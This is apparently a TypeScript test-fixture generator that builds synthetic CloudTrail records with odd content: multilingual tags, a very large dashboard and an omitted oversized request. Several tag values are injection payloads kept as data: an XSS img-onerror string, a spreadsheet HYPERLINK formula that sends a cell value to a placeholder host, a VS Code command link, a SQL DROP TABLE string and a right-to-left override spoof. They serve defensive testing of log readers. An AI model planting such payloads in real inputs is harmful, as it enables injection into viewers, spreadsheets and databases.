import { HOUR } from '../domain/time';
import { ec2, runInstance } from './actions';
import { byUser } from './callers';
import { resourceId, standingId } from './ids';
import type { Random } from './random';
import type { Action, Call } from './record';
import { ACCOUNTS, AGENTS } from './world';

const PLACE = { account: ACCOUNTS.staging, region: 'eu-central-1' };

/**
 * What logs also hold: names in other scripts, text that tries to be markup or a formula, very large records, and parts that
 * CloudTrail left out for their size. Readers must take it all as plain text.
 */
export function oddities(now: number, random: Random): Call[] {
  const tag = (key: string, value: string): Action =>
    ec2(
      'CreateTags',
      { resourcesSet: { items: [{ resourceId: standingId('i', `odd/${value}`) }] }, tagSet: { items: [{ key, value }] } },
      { _return: true },
    );
  const rows: readonly (readonly [number, Action, string?])[] = [
    [2.6, { service: 'sts', name: 'GetCallerIdentity' }, '<img src=x onerror=alert(1)>'],
    [2.7, tag('Name', '=HYPERLINK("https://example.invalid/?"&A1,"open")')],
    [4.8, tag('Name', '検証用サーバー（東京）')],
    [4.9, tag('所有者', '田中 美香 👩🏽‍💻')],
    [6.1, tag('note', 'مرحبا \u202eexe.txt\u202c')],
    [7.3, tag('note', '[open](command:workbench.action.terminal.new) `code` | a | b |')],
    [7.4, tag('note', "'; DROP TABLE events; --")],
    [12.1, runInstance(random, PLACE, { Name: '負荷試験', 'team/チーム': 'データ基盤' })],
    [20.2, manyInstances(random)],
    [30.5, dashboard(random)],
    [33.0, leftOut()],
  ];
  return rows.map(([hoursAgo, action, agent]) => ({
    ...action,
    ...PLACE,
    time: now - hoursAgo * HOUR,
    caller: byUser(PLACE.account, 'build-robot', '192.0.2.171', agent ?? AGENTS.boto),
  }));
}

/** Tens of kilobytes: one call that names six hundred instances. */
function manyInstances(random: Random): Action {
  const items = Array.from({ length: 600 }, () => ({ instanceId: resourceId(random, 'i') }));
  return ec2('DescribeInstanceStatus', { instancesSet: { items }, filterSet: {}, includeAllInstances: false });
}

/** A hundred kilobytes of a dashboard's text in one field. */
function dashboard(random: Random): Action {
  const widgets = Array.from({ length: 500 }, (_, i) => ({
    type: 'metric',
    x: (i % 4) * 6,
    y: Math.floor(i / 4) * 6,
    properties: {
      metrics: [['AWS/EC2', 'CPUUtilization', 'InstanceId', resourceId(random, 'i')]],
      region: PLACE.region,
      title: `worker ${i}`,
    },
  }));
  return { service: 'cloudwatch', name: 'PutDashboard', request: { dashboardName: 'workers', dashboardBody: JSON.stringify({ widgets }) } };
}

/** A request too large for a record: CloudTrail says so in its place. */
function leftOut(): Action {
  return {
    service: 'cloudformation',
    name: 'ValidateTemplate',
    readOnly: true,
    request: { omitted: true, originalSize: 141_372, reason: 'This field has been omitted because its size exceeds the maximum.' },
  };
}
